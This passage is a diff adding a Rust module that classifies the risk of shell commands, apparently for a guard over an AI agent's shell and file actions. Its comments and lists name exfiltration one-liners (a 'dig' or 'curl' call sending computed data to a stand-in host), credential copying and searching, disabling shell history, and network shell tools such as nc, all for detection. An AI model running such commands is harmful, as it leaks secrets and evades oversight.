@@ -1,0 +1,1150 @@
+//! Effect classes of one simple command, from the table in `table.rs`.
+
+use crate::class::{ClassSet, RiskClass};
+use crate::rules::{host_matches, segs_match, Base};
+use crate::shell::{SimpleCmd, Word};
+use crate::table::{self, Paths, Spec};
+
+/// What one simple command does.
+#[derive(Debug, Default)]
+pub(crate) struct Info {
+    pub classes: ClassSet,
+    /// One reason per class, in the order found.
+    pub why: Vec<(RiskClass, String)>,
+    /// Absolute paths read and written (for path rules).
+    pub reads: Vec<String>,
+    pub writes: Vec<String>,
+    /// Hosts contacted, when they can be told.
+    pub hosts: Vec<String>,
+    /// A shell or interpreter reading its program from a pipe.
+    pub stdin_exec: bool,
+    /// Downloads something (curl, wget, scp...).
+    pub downloads: bool,
+    /// Runs a file as a program, or makes one executable.
+    pub runs_file: bool,
+}
+
+impl Info {
+    pub fn add(&mut self, c: RiskClass, why: impl Into<String>) {
+        if !self.classes.contains(c) {
+            self.classes.insert(c);
+            self.why.push((c, why.into()));
+        }
+    }
+}
+
+/// The places paths are judged against.
+pub(crate) struct Where<'a> {
+    pub base: Base<'a>,
+    pub sandboxed: bool,
+    pub allowed_domains: &'a [String],
+}
+
+impl Where<'_> {
+    /// All hosts known and inside the network policy.
+    pub fn hosts_allowed(&self, hosts: &[String]) -> bool {
+        !hosts.is_empty()
+            && hosts
+                .iter()
+                .all(|h| self.allowed_domains.iter().any(|p| host_matches(p, h)))
+    }
+}
+
+const SHELLS: &[&str] = &[
+    "bash", "sh", "zsh", "dash", "ksh", "ash", "mksh", "fish", "source", ".",
+];
+const INTERPRETERS: &[(&str, &[&str])] = &[
+    ("python", &["-c"]),
+    ("python2", &["-c"]),
+    ("python3", &["-c"]),
+    ("perl", &["-e", "-E"]),
+    ("ruby", &["-e"]),
+    ("node", &["-e", "--eval", "-p", "--print"]),
+    ("php", &["-r"]),
+    ("lua", &["-e"]),
+    ("osascript", &["-e"]),
+    ("deno", &["eval"]),
+];
+const AWKS: &[&str] = &["awk", "gawk", "mawk", "nawk"];
+const PRIV_WRAPPERS: &[&str] = &["doas", "runuser", "pkexec", "sudo", "su"];
+const ENV_DUMPS: &[&str] = &["env", "printenv", "set", "export", "declare", "typeset"];
+const VAR_COMMANDS: &[&str] = &[
+    "export", "unset", "declare", "local", "readonly", "typeset", "set",
+];
+
+fn short(cmd: &SimpleCmd) -> String {
+    let t = cmd.text();
+    if t.chars().count() > 60 {
+        let s: String = t.chars().take(57).collect();
+        format!("{s}...")
+    } else {
+        t
+    }
+}
+
+/// Classify one simple command. `home` is used to expand `~` in paths.
+pub(crate) fn classify(cmd: &SimpleCmd, w: &Where) -> Info {
+    let mut info = Info::default();
+    let name = cmd.name();
+    let label = short(cmd);
+    let args: &[Word] = cmd.argv.get(1..).unwrap_or(&[]);
+
+    // Assignments before the command (`LD_PRELOAD=x cmd`, `HISTFILE=/dev/null`).
+    for (var, _) in &cmd.env {
+        if let Some((_, c)) = table::DANGEROUS_ENV.iter().find(|(n, _)| n == var) {
+            info.add(
+                *c,
+                format!("`{label}` sets {var}, which {}", env_effect(*c)),
+            );
+        }
+    }
+    // Redirections.
+    for r in &cmd.redirects {
+        if r.write {
+            write_path(&mut info, &r.target, false, w, &label);
+        } else {
+            read_path(&mut info, &r.target, w, &label);
+        }
+    }
+
+    if cmd.argv.first().is_some_and(|a| a.dynamic) {
+        info.add(
+            RiskClass::Opaque,
+            format!("`{label}` runs a command named at run time"),
+        );
+        return info;
+    }
+    let spec = table::command(name);
+    let Some(spec) = spec else {
+        unknown(&mut info, cmd, name, w, &label);
+        return info;
+    };
+
+    // Positional words (subcommand detection) and the matching sub entry.
+    let positional: Vec<&str> = positional_words(name, args);
+    let sub = spec
+        .subs
+        .iter()
+        .filter(|(k, _)| {
+            let ks: Vec<&str> = k.split(' ').collect();
+            (ks.len() <= positional.len() && ks.iter().zip(&positional).all(|(a, b)| a == b))
+                || (ks.len() == 1 && args.first().is_some_and(|a| a.text == ks[0]))
+        })
+        .max_by_key(|(k, _)| k.len());
+    let mut base = sub.map(|(_, c)| *c).unwrap_or(spec.classes);
+    let mut mode = spec.paths;
+    let mut flag_classes = ClassSet::EMPTY;
+    for (key, c) in spec.flags {
+        if flag_present(key, args, &positional) {
+            if *c == ClassSet::of(&[RiskClass::ReadOnly]) {
+                base = *c; // a read-only mode of the command (`crontab -l`)
+            } else {
+                flag_classes = flag_classes.union(*c);
+            }
+        }
+    }
+    for (flag, m) in spec.modes {
+        if args.iter().any(|a| flag_matches(flag, &a.text)) {
+            mode = *m;
+        }
+    }
+    let what = match sub {
+        Some((k, _)) => format!("`{label}` ({name} {k})"),
+        None => format!("`{label}`"),
+    };
+    for c in base.union(flag_classes).iter() {
+        info.add(c, format!("{what} {}", c.phrase()));
+    }
+
+    paths(&mut info, spec, mode, cmd, args, &positional, w, &label);
+    special(&mut info, cmd, name, args, w, &label);
+    hosts(&mut info, args);
+    if info.classes.contains(RiskClass::NetRead) || info.classes.contains(RiskClass::NetSend) {
+        if let Some(h) = info.hosts.first() {
+            let h = h.clone();
+            if let Some(r) = info
+                .why
+                .iter_mut()
+                .find(|(c, _)| matches!(c, RiskClass::NetRead | RiskClass::NetSend))
+            {
+                r.1.push_str(&format!(" ({h})"));
+            }
+        }
+    }
+    info
+}
+
+fn env_effect(c: RiskClass) -> &'static str {
+    match c {
+        RiskClass::Evasion => "hides what the shell does from its history",
+        RiskClass::Privilege => "injects code into every program it starts",
+        _ => "runs code in every later shell",
+    }
+}
+
+fn unknown(info: &mut Info, cmd: &SimpleCmd, name: &str, w: &Where, label: &str) {
+    let argv0 = &cmd.argv[0].text;
+    if table::wrapper(name).is_some() {
+        if PRIV_WRAPPERS.contains(&name) {
+            info.add(RiskClass::Privilege, format!("`{label}` gains privilege"));
+        } else {
+            info.add(
+                RiskClass::ReadOnly,
+                format!("`{label}` runs the command it wraps"),
+            );
+        }
+        return;
+    }
+    if argv0.contains('/') {
+        let p = resolve(argv0, &w.base);
+        if in_workspace(&p, &w.base) {
+            info.add(
+                RiskClass::RunsCode,
+                format!("`{label}` runs a program from the workspace"),
+            );
+            return;
+        }
+        if let Some(r) = table::command(name) {
+            let _ = r;
+        }
+    }
+    info.add(
+        RiskClass::Unknown,
+        format!("`{name}` is not a command cordon knows"),
+    );
+}
+
+/// Words after the command that are not options (skipping option values for git).
+fn positional_words<'a>(name: &str, args: &'a [Word]) -> Vec<&'a str> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < args.len() && out.len() < 3 {
+        let a = args[i].text.as_str();
+        if a.starts_with('-') && a.len() > 1 {
+            // git -C DIR / -c k=v take a value.
+            if name == "git" && (a == "-C" || a == "-c") {
+                i += 1;
+            }
+        } else {
+            out.push(a);
+        }
+        i += 1;
+    }
+    out
+}
+
+fn flag_matches(flag: &str, arg: &str) -> bool {
+    if arg == flag {
+        return true;
+    }
+    if let Some(long) = flag.strip_prefix("--") {
+        return arg
+            .strip_prefix("--")
+            .and_then(|a| a.strip_prefix(long))
+            .is_some_and(|rest| rest.starts_with('='));
+    }
+    if flag.len() == 2 && flag.starts_with('-') {
+        let letter = flag.as_bytes()[1];
+        return arg.len() > 2
+            && arg.starts_with('-')
+            && !arg.starts_with("--")
+            && arg.bytes().skip(1).all(|b| b.is_ascii_alphanumeric())
+            && arg.as_bytes()[1..].contains(&letter);
+    }
+    false
+}
+
+/// Does a flag key from the table match? See the module doc of `table`.
+fn flag_present(key: &str, args: &[Word], positional: &[&str]) -> bool {
+    let parts: Vec<&str> = key.split(' ').collect();
+    if parts[0].starts_with('-') {
+        if parts.len() == 1 {
+            return args.iter().any(|a| flag_matches(key, &a.text));
+        }
+        // `-v /:`: the flag followed by a value with this prefix.
+        let (flag, prefix) = (parts[0], parts[1]);
+        return args
+            .windows(2)
+            .any(|p| p[0].text == flag && p[1].text.starts_with(prefix))
+            || args.iter().any(|a| {
+                a.text
+                    .strip_prefix(flag)
+                    .and_then(|r| r.strip_prefix('='))
+                    .is_some_and(|v| v.starts_with(prefix))
+            });
+    }
+    if parts.len() == 1 {
+        return args.iter().any(|a| a.text == key);
+    }
+    let (subs, last) = parts.split_at(parts.len() - 1);
+    let last = last[0];
+    subs.len() <= positional.len()
+        && subs.iter().zip(positional).all(|(a, b)| a == b)
+        && args
+            .iter()
+            .any(|a| a.text == last || (last.starts_with('-') && flag_matches(last, &a.text)))
+}
+
+/// Apply the command's path mode to its arguments.
+#[allow(clippy::too_many_arguments)]
+fn paths(
+    info: &mut Info,
+    spec: &Spec,
+    mode: Paths,
+    cmd: &SimpleCmd,
+    args: &[Word],
+    positional: &[&str],
+    w: &Where,
+    label: &str,
+) {
+    // Values of output flags are written.
+    let mut skip_next = false;
+    let mut path_args: Vec<&Word> = Vec::new();
+    for (i, a) in args.iter().enumerate() {
+        if skip_next {
+            skip_next = false;
+            continue;
+        }
+        let t = a.text.as_str();
+        if spec.out.contains(&t) {
+            if let Some(v) = args.get(i + 1) {
+                write_path(info, v, false, w, label);
+            }
+            skip_next = true;
+            continue;
+        }
+        if let Some((flag, v)) = t.split_once('=') {
+            if spec.out.contains(&flag) {
+                write_path(
+                    info,
+                    &Word {
+                        text: v.to_string(),
+                        dynamic: a.dynamic,
+                    },
+                    false,
+                    w,
+                    label,
+                );
+                continue;
+            }
+            if flag.starts_with('-') && looks_like_path(v) {
+                read_path(
+                    info,
+                    &Word {
+                        text: v.to_string(),
+                        dynamic: a.dynamic,
+                    },
+                    w,
+                    label,
+                );
+                continue;
+            }
+        }
+        if spec.name == "dd" {
+            if let Some(v) = t.strip_prefix("of=") {
+                write_path(
+                    info,
+                    &Word {
+                        text: v.to_string(),
+                        dynamic: a.dynamic,
+                    },
+                    false,
+                    w,
+                    label,
+                );
+            } else if let Some(v) = t.strip_prefix("if=") {
+                read_path(
+                    info,
+                    &Word {
+                        text: v.to_string(),
+                        dynamic: a.dynamic,
+                    },
+                    w,
+                    label,
+                );
+            }
+            continue;
+        }
+        if (t.starts_with('-') && t.len() > 1) || t == ";" || t == "+" {
+            continue;
+        }
+        // `-d @file`, `-F x=@file`: curl uploads a file.
+        if let Some(at) = t.find('@').filter(|_| spec.name == "curl") {
+            let f = &t[at + 1..];
+            if !f.is_empty() && !t[..at].contains(':') {
+                read_path(
+                    info,
+                    &Word {
+                        text: f.to_string(),
+                        dynamic: a.dynamic,
+                    },
+                    w,
+                    label,
+                );
+                continue;
+            }
+        }
+        path_args.push(a);
+    }
+    // find: only the start paths are paths; -delete removes what is below them.
+    if spec.name == "find" {
+        let starts: Vec<&Word> = args
+            .iter()
+            .take_while(|a| !a.text.starts_with('-') && a.text != "(" && a.text != "!")
+            .collect();
+        let starts = if starts.is_empty() { vec![] } else { starts };
+        for a in &starts {
+            if mode == Paths::Delete {
+                let below = Word {
+                    text: format!("{}/*", a.text.trim_end_matches('/')),
+                    dynamic: a.dynamic,
+                };
+                write_path(info, &below, true, w, label);
+            } else {
+                read_path(info, a, w, label);
+            }
+        }
+        if starts.is_empty() && mode == Paths::Delete {
+            write_path(
+                info,
+                &Word {
+                    text: "./*".into(),
+                    dynamic: false,
+                },
+                true,
+                w,
+                label,
+            );
+        }
+        return;
+    }
+    // Subcommand words are not paths.
+    if !spec.subs.is_empty() {
+        let n = positional.len().min(2);
+        path_args.retain(|a| !positional[..n].contains(&a.text.as_str()));
+    }
+    if spec.paths == Paths::NoPaths && mode == Paths::NoPaths {
+        // Still notice credential files named anywhere (`scp ~/.ssh/id_rsa`).
+        for a in path_args {
+            if looks_like_path(&a.text) {
+                cred_only(info, a, w, label);
+            }
+        }
+        return;
+    }
+    let n = path_args.len();
+    if REMOTE_COPY.contains(&spec.name) {
+        for (i, a) in path_args.iter().enumerate() {
+            if is_remote(&a.text) {
+                if i + 1 == n {
+                    info.add(
+                        RiskClass::NetSend,
+                        format!("`{label}` copies files to another host"),
+                    );
+                } else {
+                    info.add(
+                        RiskClass::NetRead,
+                        format!("`{label}` copies files from another host"),
+                    );
+                    info.downloads = true;
+                }
+            }
+        }
+    }
+    for (i, a) in path_args.into_iter().enumerate() {
+        match mode {
+            Paths::NoPaths => {}
+            Paths::Read => read_path(info, a, w, label),
+            Paths::Write => write_path(info, a, false, w, label),
+            Paths::Delete => write_path(info, a, true, w, label),
+            Paths::WriteLast if i + 1 == n && n > 1 => {
+                if !is_remote(&a.text) {
+                    write_path(info, a, false, w, label)
+                }
+            }
+            Paths::WriteLast => {
+                if !is_remote(&a.text) {
+                    read_path(info, a, w, label)
+                }
+            }
+        }
+    }
+    if cmd.extra_args && matches!(mode, Paths::Write | Paths::Delete) {
+        if w.sandboxed {
+            info.add(
+                RiskClass::WriteWorkspace,
+                format!("`{label}` changes files named only at run time; the sandbox confines it to the workspace"),
+            );
+        } else {
+            info.add(
+                RiskClass::WriteOutside,
+                format!("`{label}` changes files named only at run time"),
+            );
+        }
+    }
+}
+
+const REMOTE_COPY: &[&str] = &["rsync", "scp", "sftp"];
+
+fn is_remote(t: &str) -> bool {
+    t.contains("://")
+        || t.split_once(':')
+            .is_some_and(|(h, _)| !h.is_empty() && !h.contains('/'))
+}
+
+fn looks_like_path(t: &str) -> bool {
+    t.starts_with('/')
+        || t.starts_with('~')
+        || t.starts_with("./")
+        || t.starts_with("../")
+        || t.contains('/')
+        || t.starts_with('.')
+}
+
+/// Resolve a path word to an absolute, lexically normalised path. `~` stays
+/// `~` when the home directory is unknown.
+pub(crate) fn resolve(raw: &str, b: &Base) -> String {
+    let raw = match raw.strip_prefix("file:") {
+        Some(r) => r.split('?').next().unwrap_or(r).trim_start_matches("//"),
+        None => raw,
+    };
+    let joined = if raw == "~" || raw.starts_with("~/") {
+        format!("{}{}", b.home.unwrap_or("~"), &raw[1..])
+    } else if let Some(rest) = raw.strip_prefix('~') {
+        // ~user/...
+        format!("/home/{rest}")
+    } else if raw.starts_with('/') {
+        raw.to_string()
+    } else {
+        format!("{}/{}", b.cwd.trim_end_matches('/'), raw)
+    };
+    let tilde = joined.starts_with('~');
+    let mut parts: Vec<&str> = Vec::new();
+    for seg in joined.split('/') {
+        match seg {
+            "" | "." => {}
+            ".." => {
+                if parts.len() > usize::from(tilde) {
+                    parts.pop();
+                }
+            }
+            s => parts.push(s),
+        }
+    }
+    if tilde {
+        parts.join("/")
+    } else {
+        format!("/{}", parts.join("/"))
+    }
+}
+
+/// Match a table pattern: `~/x` tries the home directory (or `~`), `/root`
+/// and `/home/*`; a relative pattern matches at any depth. No allocation per
+/// pattern: this runs for every path of every command.
+pub(crate) fn table_match(
+    patterns: &[&'static str],
+    path: &str,
+    home: Option<&str>,
+) -> Option<&'static str> {
+    let all: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
+    let mut homes: [&[&str]; 4] = [&[]; 4];
+    let mut nh = 0;
+    if all.first() == Some(&"~") {
+        homes[nh] = &all[1..];
+        nh += 1;
+    }
+    if let Some(h) = home {
+        let hs = h.split('/').filter(|s| !s.is_empty());
+        let n = hs.clone().count();
+        if n > 0 && all.len() >= n && hs.zip(&all).all(|(a, b)| a == *b) {
+            homes[nh] = &all[n..];
+            nh += 1;
+        }
+    }
+    if all.first() == Some(&"root") {
+        homes[nh] = &all[1..];
+        nh += 1;
+    }
+    if all.first() == Some(&"home") && all.len() >= 2 {
+        homes[nh] = &all[2..];
+        nh += 1;
+    }
+    let mut buf: [&str; 16] = [""; 16];
+    for p in patterns {
+        if !path.contains(required_literal(p)) {
+            continue;
+        }
+        let mut n = 0;
+        for seg in p.split('/').filter(|s| !s.is_empty()) {
+            if n < buf.len() {
+                buf[n] = seg;
+                n += 1;
+            }
+        }
+        let ps = &buf[..n];
+        let hit = if p.starts_with("~/") {
+            homes[..nh].iter().any(|rest| segs_match(&ps[1..], rest))
+        } else if p.starts_with('/') {
+            segs_match(ps, &all)
+        } else {
+            (0..all.len()).any(|k| segs_match(ps, &all[k..]))
+        };
+        if hit {
+            return Some(p);
+        }
+    }
+    None
+}
+
+/// A piece of text any path matching `p` must contain (cheap pre-filter).
+fn required_literal(p: &str) -> &str {
+    let last = p
+        .rsplit('/')
+        .find(|s| !s.is_empty() && *s != "**" && *s != "~")
+        .unwrap_or("");
+    let lit = last.rsplit(['*', '?']).next().unwrap_or("");
+    if lit.is_empty() {
+        last.split(['*', '?']).next().unwrap_or("")
+    } else {
+        lit
+    }
+}
+
+fn in_workspace(p: &str, b: &Base) -> bool {
+    let ws = b.workspace.trim_end_matches('/');
+    p == ws || p.starts_with(&format!("{ws}/"))
+}
+
+fn is_scratch(p: &str) -> bool {
+    table_match(table::SCRATCH_PATHS, p, None).is_some()
+}
+
+/// Writing here stores nothing (`> /dev/null`, `>&2` spelled as a path).
+fn is_sink(p: &str) -> bool {
+    matches!(
+        p,
+        "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/zero"
+    ) || p.starts_with("/dev/fd/")
+        || p.starts_with("/proc/self/fd/")
+}
+
+/// A dynamic word with its run-time parts replaced by a placeholder, so the
+/// path tables can still be checked (`/proc/$PID/mem` -> `/proc/_/mem`).
+fn skeleton(t: &str) -> String {
+    let mut out = String::with_capacity(t.len());
+    let b = t.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] == b'$' {
+            i += 1;
+            if i < b.len() && (b[i] == b'{' || b[i] == b'(') {
+                let close = if b[i] == b'{' { b'}' } else { b')' };
+                let mut depth = 0;
+                while i < b.len() {
+                    if b[i] == b'{' || b[i] == b'(' {
+                        depth += 1;
+                    } else if b[i] == close {
+                        depth -= 1;
+                        if depth == 0 {
+                            i += 1;
+                            break;
+                        }
+                    }
+                    i += 1;
+                }
+            } else {
+                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
+                    i += 1;
+                }
+            }
+            out.push('_');
+        } else {
+            out.push(b[i] as char);
+            i += 1;
+        }
+    }
+    out
+}
+
+fn is_device(p: &str) -> bool {
+    [
+        "/dev/sd",
+        "/dev/nvme",
+        "/dev/vd",
+        "/dev/hd",
+        "/dev/mmcblk",
+        "/dev/xvd",
+        "/dev/disk",
+    ]
+    .iter()
+    .any(|d| p.starts_with(d))
+}
+
+fn cred_only(info: &mut Info, a: &Word, w: &Where, label: &str) {
+    let p = if a.dynamic {
+        resolve(&skeleton(&a.text), &w.base)
+    } else {
+        resolve(&a.text, &w.base)
+    };
+    if table_match(table::CREDENTIAL_PATHS, &p, w.base.home).is_some() {
+        info.add(
+            RiskClass::Credential,
+            format!("`{label}` touches credentials ({})", a.text),
+        );
+        info.reads.push(p);
+    }
+}
+
+fn read_path(info: &mut Info, a: &Word, w: &Where, label: &str) {
+    if a.text.starts_with("/dev/tcp/") || a.text.starts_with("/dev/udp/") {
+        net_device(info, a, label);
+        return;
+    }
+    let p = if a.dynamic {
+        resolve(&skeleton(&a.text), &w.base)
+    } else {
+        resolve(&a.text, &w.base)
+    };
+    if table_match(table::CREDENTIAL_PATHS, &p, w.base.home).is_some() {
+        info.add(
+            RiskClass::Credential,
+            format!("`{label}` reads credentials ({})", a.text),
+        );
+    }
+    if !a.dynamic {
+        info.reads.push(p);
+    }
+}
+
+fn net_device(info: &mut Info, a: &Word, label: &str) {
+    info.add(
+        RiskClass::NetSend,
+        format!("`{label}` opens a network connection through {}", a.text),
+    );
+    if let Some(h) = a.text.split('/').nth(3) {
+        info.hosts.push(h.to_string());
+    }
+}
+
+/// A path written (or deleted, `delete`).
+fn write_path(info: &mut Info, a: &Word, delete: bool, w: &Where, label: &str) {
+    if a.text.starts_with("/dev/tcp/") || a.text.starts_with("/dev/udp/") {
+        net_device(info, a, label);
+        return;
+    }
+    let verb = if delete { "deletes" } else { "writes" };
+    let p = if a.dynamic {
+        resolve(&skeleton(&a.text), &w.base)
+    } else {
+        resolve(&a.text, &w.base)
+    };
+    if is_sink(&p) {
+        return;
+    }
+    let home = w.base.home;
+    let evasion = table_match(table::EVASION_PATHS, &p, home);
+    let persistence = table_match(table::PERSISTENCE_PATHS, &p, home);
+    let credential = table_match(table::CREDENTIAL_PATHS, &p, home);
+    let in_tables = evasion.is_some() || persistence.is_some() || credential.is_some();
+    if a.dynamic && !in_tables && !in_workspace(&p, &w.base) {
+        // Only known at run time; `$HOME/...` was already made `~`.
+        if w.sandboxed {
+            info.add(
+                RiskClass::WriteWorkspace,
+                format!("`{label}` {verb} a path only known at run time ({}); the sandbox confines it to the workspace", a.text),
+            );
+        } else {
+            info.add(
+                RiskClass::WriteOutside,
+                format!(
+                    "`{label}` {verb} a path only known at run time ({})",
+                    a.text
+                ),
+            );
+        }
+        return;
+    }
+    if let Some(pat) = evasion {
+        info.add(
+            RiskClass::Evasion,
+            format!("`{label}` {verb} {} (protected: {pat})", a.text),
+        );
+    } else if let Some(pat) = persistence {
+        info.add(
+            RiskClass::Persistence,
+            format!(
+                "`{label}` {verb} {}, which runs or grants access later ({pat})",
+                a.text
+            ),
+        );
+    } else if credential.is_some() {
+        info.add(
+            RiskClass::Credential,
+            format!("`{label}` {verb} credentials ({})", a.text),
+        );
+    } else if is_device(&p) {
+        info.add(
+            RiskClass::Destructive,
+            format!("`{label}` overwrites the disk device {}", a.text),
+        );
+    } else if in_workspace(&p, &w.base) || (w.sandboxed && is_scratch(&p)) {
+        let ws = w.base.workspace.trim_end_matches('/');
+        if delete && (p == ws) {
+            info.add(
+                RiskClass::Destructive,
+                format!("`{label}` deletes the whole workspace"),
+            );
+        } else {
+            info.add(
+                RiskClass::WriteWorkspace,
+                format!("`{label}` {verb} inside the workspace"),
+            );
+        }
+    } else if delete
+        || w.base
+            .workspace
+            .starts_with(&format!("{}/", p.trim_end_matches('/')))
+        || p == "/"
+    {
+        info.add(
+            RiskClass::Destructive,
+            format!("`{label}` {verb} {} outside the workspace", a.text),
+        );
+    } else {
+        info.add(
+            RiskClass::WriteOutside,
+            format!("`{label}` {verb} {} outside the workspace", a.text),
+        );
+    }
+    info.writes.push(p);
+}
+
+/// The classes of a file tool writing `path` (`Write`, `Edit`).
+pub(crate) fn write_info(path: &str, w: &Where, label: &str) -> Info {
+    let mut info = Info::default();
+    write_path(
+        &mut info,
+        &Word {
+            text: path.to_string(),
+            dynamic: false,
+        },
+        false,
+        w,
+        label,
+    );
+    info
+}
+
+/// Command-specific checks the table cannot express.
+fn special(info: &mut Info, cmd: &SimpleCmd, name: &str, args: &[Word], w: &Where, label: &str) {
+    let _ = w;
+    // A shell or interpreter with no program argument reads it from stdin.
+    let interp = INTERPRETERS.iter().find(|(n, _)| *n == name);
+    if SHELLS.contains(&name) || interp.is_some() {
+        let program = args
+            .iter()
+            .find(|a| !a.text.starts_with('-') || a.text == "-");
+        let from_stdin = program.is_none_or(|a| a.text == "-");
+        let subst = program
+            .is_some_and(|a| a.dynamic && (a.text.starts_with("<(") || a.text.starts_with("$(")));
+        if (from_stdin && cmd.piped && cmd.stdin_text.is_none()) || subst {
+            info.stdin_exec = true;
+        }
+    }
+    if let Some(prog) = cmd.argv.first() {
+        if prog.text.contains('/') {
+            info.runs_file = true;
+        }
+    }
+    if (SHELLS.contains(&name) || interp.is_some())
+        && args.iter().any(|a| !a.text.starts_with('-') && !a.dynamic)
+        && !args
+            .iter()
+            .any(|a| a.text == "-c" || a.text == "-e" || a.text == "-m")
+    {
+        info.runs_file = true;
+    }
+    if interp.is_some() {
+        if let Some(i) = args.iter().position(|a| a.text == "-m") {
+            if let Some(m) = args.get(i + 1) {
+                inline(info, &m.text, label);
+            }
+        }
+    }
+    if let Some((_, flags)) = interp {
+        let code = args
+            .iter()
+            .position(|a| flags.contains(&a.text.as_str()))
+            .and_then(|i| args.get(i + 1));
+        let code = code.map(|c| c.text.as_str()).or(cmd.stdin_text.as_deref());
+        if let Some(code) = code {
+            inline(info, code, label);
+        }
+    }
+    if AWKS.contains(&name) {
+        if let Some(prog) = args.iter().find(|a| !a.text.starts_with('-')) {
+            inline(info, &prog.text, label);
+        }
+    }
+    if DOWNLOADERS.contains(&name) && info.classes.contains(RiskClass::NetRead) {
+        info.downloads = true;
+    }
+    // Data built at run time in a network command's arguments is sent out
+    // (`dig $(cat secret | base64).example.com`, `curl "https://x/?d=$(id)"`).
+    if (info.classes.contains(RiskClass::NetRead) || info.classes.contains(RiskClass::NetSend))
+        && args
+            .iter()
+            .any(|a| a.dynamic && (a.text.contains("$(") || a.text.contains('`')))
+    {
+        info.add(
+            RiskClass::NetSend,
+            format!("`{label}` sends data computed at run time over the network"),
+        );
+    }
+    if SEARCHERS.contains(&name) {
+        secret_search(info, name, args, w, label);
+    }
+    match name {
+        "chmod" => {
+            if args.iter().any(|a| setuid_mode(&a.text)) {
+                info.add(
+                    RiskClass::Privilege,
+                    format!("`{label}` sets the setuid/setgid bit"),
+                );
+            }
+            if args
+                .iter()
+                .any(|a| a.text.contains("+x") || (a.text.len() == 3 && a.text.starts_with('7')))
+            {
+                info.runs_file = true;
+            }
+        }
+        "kill" | "pkill" | "killall" | "systemctl" | "service"
+            if args.iter().any(|a| {
+                let t = a.text.trim_end_matches(".service").to_ascii_lowercase();
+                table::SECURITY_TOOLS.iter().any(|s| t == *s)
+            }) && !info.classes.iter().all(|c| c == RiskClass::ReadOnly) =>
+        {
+            info.add(
+                RiskClass::Evasion,
+                format!("`{label}` targets a security service"),
+            );
+        }
+        _ => {}
+    }
+    if ENV_DUMPS.contains(&name) {
+        let bare = args.iter().all(|a| {
+            a.text.starts_with('-')
+                && matches!(a.text.as_str(), "-p" | "-x" | "-0" | "--null" | "-i")
+        }) && !(name == "env" && args.iter().any(|a| a.text == "-i"));
+        if bare {
+            info.add(
+                RiskClass::Credential,
+                format!("`{label}` prints the environment, which holds tokens"),
+            );
+        }
+    }
+    if VAR_COMMANDS.contains(&name) {
+        for a in args {
+            let var = a.text.split('=').next().unwrap_or("");
+            if let Some((_, c)) = table::DANGEROUS_ENV.iter().find(|(n, _)| *n == var) {
+                info.add(
+                    *c,
+                    format!("`{label}` changes {var}, which {}", env_effect(*c)),
+                );
+            }
+        }
+        if name == "set"
+            && args
+                .windows(2)
+                .any(|p| p[0].text == "+o" && p[1].text == "history")
+        {
+            info.add(
+                RiskClass::Evasion,
+                format!("`{label}` turns the shell history off"),
+            );
+        }
+    }
+}
+
+const DOWNLOADERS: &[&str] = &[
+    "curl", "wget", "scp", "sftp", "ftp", "tftp", "rsync", "nc", "ncat", "aria2c", "fetch",
+];
+const SEARCHERS: &[&str] = &[
+    "grep", "egrep", "fgrep", "rg", "ag", "ack", "zgrep", "find", "locate", "mdfind",
+];
+
+/// A search for secrets: file names like keys and credentials (find, locate),
+/// or secret words searched for outside the workspace (grep -r password /).
+fn secret_search(info: &mut Info, name: &str, args: &[Word], w: &Where, label: &str) {
+    let secretish = |t: &str| {
+        let l = t.to_ascii_lowercase();
+        table::SECRET_WORDS.iter().any(|s| l.contains(s))
+    };
+    let by_name = matches!(name, "find" | "locate" | "mdfind");
+    let hit = if by_name {
+        // The values of name tests (find) or the patterns (locate).
+        let values: Vec<&Word> = if name == "find" {
+            args.windows(2)
+                .filter(|p| {
+                    matches!(
+                        p[0].text.as_str(),
+                        "-name"
+                            | "-iname"
+                            | "-path"
+                            | "-ipath"
+                            | "-wholename"
+                            | "-regex"
+                            | "-iregex"
+                    )
+                })
+                .map(|p| &p[1])
+                .collect()
+        } else {
+            args.iter().filter(|a| !a.text.starts_with('-')).collect()
+        };
+        values.iter().any(|a| {
+            secretish(&a.text)
+                || table_match(
+                    table::CREDENTIAL_PATHS,
+                    &format!("/_/{}", a.text.trim_start_matches("*/")),
+                    None,
+                )
+                .is_some()
+        })
+    } else {
+        let outside = args
+            .iter()
+            .filter(|a| !a.text.starts_with('-') && looks_like_path(&a.text))
+            .any(|a| {
+                let p = resolve(&a.text, &w.base);
+                !in_workspace(&p, &w.base)
+            });
+        outside
+            && args
+                .iter()
+                .any(|a| !a.text.starts_with('-') && secretish(&a.text))
+    };
+    if hit {
+        info.add(
+            RiskClass::Credential,
+            format!("`{label}` searches for secrets"),
+        );
+    }
+}
+
+fn setuid_mode(t: &str) -> bool {
+    if t.starts_with('-') {
+        return false;
+    }
+    if t.len() == 4 && t.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
+        return matches!(t.as_bytes()[0], b'2' | b'4' | b'6');
+    }
+    t.split(',').any(|part| {
+        part.split_once(['+', '='])
+            .is_some_and(|(who, what)| !who.contains('o') && what.contains('s'))
+    })
+}
+
+fn inline(info: &mut Info, code: &str, label: &str) {
+    for (marker, c) in table::INLINE_MARKERS {
+        if code.contains(marker) {
+            info.add(
+                *c,
+                format!("`{label}` runs inline code that uses `{marker}`"),
+            );
+        }
+    }
+}
+
+/// Hosts named in URLs, `user@host:` and `host:path` arguments.
+fn hosts(info: &mut Info, args: &[Word]) {
+    if !(info.classes.contains(RiskClass::NetRead) || info.classes.contains(RiskClass::NetSend)) {
+        return;
+    }
+    for a in args {
+        let t = a.text.as_str();
+        let host = if let Some((_, rest)) = t.split_once("://") {
+            let hostport = rest.split(['/', '?', '#']).next().unwrap_or("");
+            let hostport = hostport.rsplit('@').next().unwrap_or("");
+            Some(strip_port(hostport))
+        } else if let Some((user_host, _)) = t
+            .split_once(':')
+            .filter(|(h, _)| !h.is_empty() && !h.contains('/') && !t.starts_with('-'))
+        {
+            Some(user_host.rsplit('@').next().unwrap_or("").to_string())
+        } else if t.contains('@') && !t.starts_with('-') && !t.contains('/') {
+            Some(t.rsplit('@').next().unwrap_or("").to_string())
+        } else if !t.starts_with('-')
+            && t.contains('.')
+            && !t.contains('/')
+            && t.chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
+            && t.chars().any(|c| c.is_ascii_alphabetic())
+            && !t.ends_with('.')
+        {
+            Some(t.to_string())
+        } else {
+            None
+        };
